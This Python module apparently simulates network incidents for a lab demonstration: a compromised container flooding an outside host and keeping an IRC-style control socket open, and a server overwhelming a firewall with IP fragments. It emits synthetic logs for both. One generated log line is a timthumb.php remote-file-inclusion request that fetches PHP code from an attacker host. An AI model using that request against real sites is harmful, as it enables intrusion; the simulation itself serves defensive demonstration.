"""The stories of the demonstration: who does what, when, and what the devices and logs say about it.

A journey is told by the tick. It offers flows, hears how much of them arrived at the firewall before its machine, and
gives the log lines that follow. What it did the day before stands in the log and among the records of that day.
"""

from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from random import Random
from types import MappingProxyType
from typing import Protocol

from deploy.lab.device import Traffic
from deploy.lab.provider import CORE, WORLD, Machine, Provider
from deploy.lab.records import LogLine, access_line
from deploy.lab.traffic import Flow, outbound

SECOND_NS = 1_000_000_000
HOUR_NS = 3600 * SECOND_NS
AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0"


@dataclass(frozen=True, slots=True)
class Tick:
    """A stretch of live time. `elapsed_s` is the time at its end since the journey was started."""

    at_ns: int  # its end
    seconds: float
    elapsed_s: float


class Journey(Protocol):
    """One scenario."""

    number: int

    def history(self, *, start_ns: int, end_ns: int) -> Sequence[LogLine]:
        """Log lines of the day before, in order."""
        ...

    def yesterday(self, *, at_ns: int, seconds: float) -> Sequence[Flow]:
        """What it adds to the records of one minute of the day before."""
        ...

    def flows(self, tick: Tick) -> Sequence[Flow]:
        """What it offers to the network, or receives, in a tick."""
        ...

    def lines(self, tick: Tick, arrived: int) -> Sequence[LogLine]:
        """What is logged in a tick, `arrived` packets a second of its flows having reached a firewall."""
        ...

    def witnessed(self, flow: Flow, tick: Tick) -> Flow | None:
        """What the flow's exporter makes of it; None: nothing, for it is silent."""
        ...


def chatter(provider: Provider, draw: Random, *, at_ns: int) -> LogLine:
    """A log line that means nothing: a login, a job, a page that was fetched."""
    machine = draw.choice(provider.machines)
    client = str(draw.choice(WORLD)[draw.randrange(1, 255)])
    program, text = draw.choice(
        (
            ("CRON", "(root) CMD (test -x /usr/sbin/anacron || run-parts --report /etc/cron.hourly)"),
            ("systemd", "Started Daily apt download activities."),
            ("sshd", f"Accepted publickey for root from {client} port {draw.randrange(1025, 65_000)} ssh2"),
            ("postfix/smtpd", f"connect from unknown[{client}]"),
            ("apache2", _page(client, draw, at_ns)),
            ("apache2", _page(client, draw, at_ns)),
        )
    )
    return LogLine(at_ns, machine.ipv4, machine.name, program, text)


def _page(client: str, draw: Random, at_ns: int) -> str:
    path = draw.choice(
        ("/", "/index.php", "/blog/", "/wp-content/uploads/2026/11/logo.png", "/robots.txt", "/shop?p=2")
    )
    return access_line(
        at_ns=at_ns,
        client=client,
        request=f"GET {path} HTTP/1.1",
        status=draw.choice((200, 200, 200, 304, 404)),
        octets=draw.randrange(200, 60_000),
        agent=AGENT,
    )


class Saturation:
    """Scenario 1: a container, broken into the day before, sends as fast as it can."""

    number = 1
    PACKETS_PER_S = 8_050
    OCTETS = 1_400  # 90 Mbit/s: 975 GB in a day

    def __init__(self, provider: Provider) -> None:
        machine = provider.offender(self.number)
        if machine is None:
            raise ValueError("scenario 1 has an offender")
        draw = Random(f"{provider.seed} journey {self.number}")
        self._machine: Machine = machine
        self._provider = provider
        self._attacker = str(WORLD[1][draw.randrange(1, 255)])
        self._master = str(WORLD[2][draw.randrange(1, 255)])
        self._target = str(WORLD[0][draw.randrange(1, 255)])
        self._hours_before = draw.uniform(18.0, 23.0)

    def history(self, *, start_ns: int, end_ns: int) -> Sequence[LogLine]:
        """The request by which it was broken into."""
        at_ns = max(start_ns, end_ns - int(self._hours_before * HOUR_NS))
        self._opened_ns = at_ns
        request = f"GET /wp-content/themes/striking/timthumb.php?src=http://{self._master}/blogger.com.php HTTP/1.1"
        text = access_line(
            at_ns=at_ns, client=self._attacker, request=request, status=200, octets=1_204, agent="libwww-perl/6.67"
        )
        return (LogLine(at_ns, self._machine.ipv4, self._machine.name, "apache2", text),)

    def yesterday(self, *, at_ns: int, seconds: float) -> Sequence[Flow]:
        """The socket to an outside server, open since then, on which little is said."""
        if at_ns < self._opened_ns:
            return ()
        return (self._socket(packets=64, seconds=seconds),)

    def flows(self, tick: Tick) -> Sequence[Flow]:
        """All that the container's interface can send, to one address outside."""
        packets = int(self.PACKETS_PER_S * tick.seconds)
        flood = outbound(
            self._machine,
            self._provider,
            dst=self._target,
            packets=packets,
            octets=packets * self.OCTETS,
            seconds=tick.seconds,
            protocol=17,
            src_port=41_337,
            dst_port=80,
            scenario=self.number,
        )
        return (flood, self._socket(packets=4, seconds=tick.seconds))

    def lines(self, tick: Tick, arrived: int) -> Sequence[LogLine]:
        """Nothing: the container was its owner's affair."""
        return ()

    def witnessed(self, flow: Flow, tick: Tick) -> Flow | None:
        """Exporters are in order."""
        return flow

    def _socket(self, *, packets: int, seconds: float) -> Flow:
        return outbound(
            self._machine,
            self._provider,
            dst=self._master,
            packets=packets,
            octets=packets * 90,
            seconds=seconds,
            protocol=6,
            src_port=52_114,
            dst_port=6_667,
        )


class Fragments:
    """Scenario 2: a shared-hosting server floods the firewall before it with fragments: few bits, many packets."""

    number = 2
    FRAGMENTS_PER_S = 20_000
    MALFORMED_PER_S = 400
    OCTETS = 92
    BEARABLE = 6_000  # fragments a second that the firewall reassembles without falling over

    def __init__(self, provider: Provider) -> None:
        machine = provider.offender(self.number)
        if machine is None:
            raise ValueError("scenario 2 has an offender")
        draw = Random(f"{provider.seed} journey {self.number}")
        self._machine = machine
        self._provider = provider
        self._firewall = provider.firewall_of(machine)
        self._target = str(WORLD[0][draw.randrange(1, 255)])
        self._suffering_s = 0.0
        self._said = 0

    def history(self, *, start_ns: int, end_ns: int) -> Sequence[LogLine]:
        """Nothing led up to it."""
        return ()

    def yesterday(self, *, at_ns: int, seconds: float) -> Sequence[Flow]:
        """Nothing led up to it."""
        return ()

    def flows(self, tick: Tick) -> Sequence[Flow]:
        """Fragments whose rest never comes, and some headers that end early."""
        offered = (
            (Traffic.FRAGMENT, self.FRAGMENTS_PER_S),
            (Traffic.MALFORMED, self.MALFORMED_PER_S),
        )
        return tuple(
            outbound(
                self._machine,
                self._provider,
                dst=self._target,
                packets=int(rate * tick.seconds),
                octets=int(rate * tick.seconds) * self.OCTETS,
                seconds=tick.seconds,
                protocol=17,
                src_port=0,
                dst_port=0,
                traffic=traffic,
                scenario=self.number,
            )
            for traffic, rate in offered
        )

    def lines(self, tick: Tick, arrived: int) -> Sequence[LogLine]:
        """The firewall's cluster falls over again and again, and the core hiccups, while too much arrives."""
        if arrived < self.BEARABLE:
            self._suffering_s = 0.0
            return ()
        self._suffering_s += tick.seconds
        if self._suffering_s < 0.5 or tick.at_ns - self._said < SECOND_NS:
            return ()
        self._said = tick.at_ns
        firewall, core = self._provider.exporters[self._firewall], self._provider.exporters[CORE]
        told = SYMPTOMS[self._provider.platform(self._firewall)]
        lines = [LogLine(tick.at_ns, firewall, self._firewall, program, text, 4) for program, text in told]
        lines.append(
            LogLine(
                tick.at_ns,
                core,
                CORE,
                "%LINEPROTO-5-UPDOWN",
                "Line protocol on Interface TenGigabitEthernet1/1/5, changed state to down",
                189,
            )
        )
        return lines

    def witnessed(self, flow: Flow, tick: Tick) -> Flow | None:
        """Exporters are in order."""
        return flow


SYMPTOMS: Mapping[str, tuple[tuple[str, str], ...]] = MappingProxyType(
    {
        "linux_nftables": (
            ("kernel", "nf_conntrack: nf_conntrack: table full, dropping packet"),
            ("Keepalived_vrrp", "(VI_1) Entering FAULT STATE"),
        ),
        "checkpoint_gaia": (
            ("kernel", "[fw4_1];CLUS-110305-1: State change: ACTIVE -> DOWN | Reason: Interface eth1 is down"),
            ("kernel", "[fw4_1];FW-1: fwconn_record_conn: Id_set_wto failed, the connections table is full"),
        ),
    }
)
